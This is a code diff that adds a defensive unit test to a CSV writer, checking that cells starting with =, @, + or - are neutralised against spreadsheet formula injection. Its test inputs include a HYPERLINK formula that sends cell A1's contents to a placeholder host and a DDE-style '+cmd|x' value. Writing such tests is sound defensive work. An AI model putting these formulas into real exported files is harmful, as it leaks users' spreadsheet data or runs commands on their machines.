@@ -18,6 +18,16 @@ describe('CSV writer', () => {
     expect(csvFormatter(',')(['a;b', 'a,b'])).toBe('a;b,"a,b"\r\n');
   });
 
+  it('keeps a spreadsheet from running a text as a formula, and leaves numbers and phone numbers alone', () => {
+    const line = csvFormatter(';');
+    expect(line(['=HYPERLINK("http://x/?"&A1;"klik")', '@SUM(A1)', '+cmd|x', '-2+3+cmd'])).toBe(
+      `"'=HYPERLINK(""http://x/?""&A1;""klik"")";'@SUM(A1);'+cmd|x;'-2+3+cmd\r\n`,
+    );
+    expect(line(['+31 6 12345678', '-5', '-12,50', 'Jansen', 'a=b', 7, -3])).toBe(
+      '+31 6 12345678;-5;-12,50;Jansen;a=b;7;-3\r\n',
+    );
+  });
+
   it('refuses a delimiter that cannot work', () => {
     expect(() => csvFormatter('"')).toThrow(/delimiter/);
     expect(() => csvFormatter(';;')).toThrow(/delimiter/);
